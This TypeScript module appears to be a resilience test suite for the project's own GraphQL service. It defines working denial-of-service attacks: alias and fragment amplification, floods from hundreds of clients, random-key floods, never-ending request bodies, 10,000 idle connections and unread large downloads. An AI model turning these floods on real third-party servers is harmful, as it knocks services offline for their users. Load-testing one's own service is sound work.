import { randomBytes } from "node:crypto";
import { Agent, get } from "node:http";
import { connect, type Socket } from "node:net";
import { setTimeout as wait } from "node:timers/promises";
import { ask } from "./ask.ts";
import type { Workspace } from "./fill.ts";

export interface Target {
  url: URL;
  attacker: Workspace;
  /** Another workspace of the attacker. */
  accomplice: Workspace;
}

/** The number of answers that the attacker got, by status. */
export type Tally = Record<string, number>;

type Attack = (target: Target, tally: Tally) => Promise<unknown>;

/** So many clients at once. Each sends its next request when it has the answer of the last, or after a pause. */
function clients(count: number, body: (target: Target, n: number) => unknown, pauseMs = 0): Attack {
  return (target, tally) => {
    const agent = new Agent({ keepAlive: true, maxSockets: count });
    let sent = 0;
    const client = async () => {
      for (;;) {
        const { status, answer } = await ask(target.url, target.attacker.key, body(target, sent++), agent);
        const code = answer?.errors?.[0]?.extensions?.reason;
        note(tally, code ? `${status} ${code}` : String(status));
        await wait(pauseMs);
      }
    };
    return Promise.all(Array.from({ length: count }, client));
  };
}

function note(tally: Tally, heard: string): void {
  tally[heard] = (tally[heard] ?? 0) + 1;
}

const aliases = (count: number, field: string) =>
  `{ ${Array.from({ length: count }, (_, i) => `a${i}: ${field}`).join(" ")} }`;
const search = (filter: string) => `conversations(first: 1, filter: ${filter}) { nodes { id } }`;

function openSockets(count: number, { url }: Target, begin: (socket: Socket, n: number) => void, tally: Tally): void {
  for (let n = 0; n < count; n++) {
    const socket = connect(Number(url.port), url.hostname, () => begin(socket, n));
    socket.on("error", () => note(tally, "broken"));
    socket.on("close", () => note(tally, "closed"));
  }
}

const forEver = () => new Promise(() => setInterval(() => {}, 60_000));

/** Different documents with the largest number of fragments that is allowed. */
function manyFragments(_: Target, n: number) {
  const fragments = Array.from({ length: 330 }, (_, i) => `fragment F${i} on Query { __typename }`);
  return { query: `# ${n}\n{ ${fragments.map((_, i) => `...F${i}`).join(" ")} }\n${fragments.join("\n")}` };
}

export const attacks: Record<string, Attack> = {
  "100 aliases of a metadata filter {a: {}} every 2 s": clients(
    1,
    () => ({ query: aliases(100, search("{ metadata: { a: {} } }")) }),
    2_000,
  ),
  '100 aliases of name: "%%%" every 3 s': clients(1, () => ({ query: aliases(100, search('{ name: "%%%" }')) }), 3_000),
  "40 clients: searches of a common name that find nothing": clients(40, (_, n) => ({
    query: aliases(2, search(`{ name: "customer zz${n}", metadata: { source: "load" } }`)),
  })),
  "10 aliases of a filter with 8,100 numbers every 2 s": clients(
    1,
    () => ({ query: aliases(10, search(`{ metadata: { a: [${Array(8_100).fill(1).join()}] } }`)) }),
    2_000,
  ),
  "45 clients: patches of one conversation's metadata": clients(45, ({ attacker }, n) => ({
    query: "mutation ($input: UpdateConversationInput!) { updateConversation(input: $input) { conversation { id } } }",
    variables: { input: { id: attacker.parentId, metadata: { [`key${n % 20}`]: n } } },
  })),
  "40 clients: sub-conversations into one parent": clients(40, ({ attacker }) => ({
    query:
      "mutation ($input: CreateSubConversationInput!) { createSubConversation(input: $input) { conversation { id } } }",
    variables: { input: { parentId: attacker.parentId, name: "Order", type: "GROUP" } },
  })),
  "40 clients: getOrCreate of one customer": clients(40, (_, n) => ({
    query: "mutation ($input: GetOrCreateConversationInput!) { getOrCreateConversation(input: $input) { outcome } }",
    variables: { input: { customer: { externalId: "one", name: `Name ${n}` } } },
  })),
  "400 clients: an ordinary page": clients(400, ({ attacker }) => ({
    query: "query ($id: ID!) { listSubConversations(parentId: $id, first: 30) { nodes { id name } } }",
    variables: { id: attacker.parentId },
  })),
  "40 clients: documents of 330 fragments": clients(40, manyFragments),
  "150 clients: random well-formed keys": (target, tally) =>
    clients(150, () => ({ query: "{ __typename }" }))(
      {
        ...target,
        attacker: {
          ...target.attacker,
          get key() {
            return `parley_${randomBytes(32).toString("base64url")}`;
          },
        },
      },
      tally,
    ),
  "two keys, 100 bodies that never end": async (target, tally) => {
    const { attacker, accomplice, url } = target;
    const keys = [attacker.key, accomplice.key];
    for (;;) {
      openSockets(
        100,
        target,
        (socket, n) =>
          socket.write(
            `POST /graphql HTTP/1.1\r\nHost: ${url.host}\r\nX-Api-Key: ${keys[n % 2]}\r\nContent-Type: application/json\r\nContent-Length: 1000\r\n\r\n{`,
          ),
        tally,
      );
      await wait(10_000);
    }
  },
  "10,000 idle connections that asked /livez once": async (target, tally) => {
    openSockets(
      10_000,
      target,
      (socket) => socket.write(`GET /livez HTTP/1.1\r\nHost: ${target.url.host}\r\n\r\n`),
      tally,
    );
    await forEver();
  },
  "10,000 idle connections with a valid key": async (target, tally) => {
    const head = `GET /graphql?query=%7B__typename%7D HTTP/1.1\r\nHost: ${target.url.host}\r\nX-Api-Key: ${target.attacker.key}\r\n\r\n`;
    openSockets(10_000, target, (socket) => socket.write(head), tally);
    await forEver();
  },
  "300 unread downloads of GraphiQL's files": async (target, tally) => {
    const page = await (await fetch(new URL("/graphql", target.url), { headers: { accept: "text/html" } })).text();
    const paths = [...page.matchAll(/graphiql\/[\w.-]+/g)].map(([path]) => `/${path}`);
    const largest = paths.find((path) => path.startsWith("/graphiql/graphiql.") && path.endsWith(".js")) ?? "/";
    for (let n = 0; n < 300; n++) {
      get(
        new URL(largest, target.url),
        { agent: new Agent(), headers: { "accept-encoding": "identity" } },
        (response) => {
          note(tally, String(response.statusCode));
          response.pause();
        },
      ).on("error", () => note(tally, "broken"));
    }
    await forEver();
  },
};
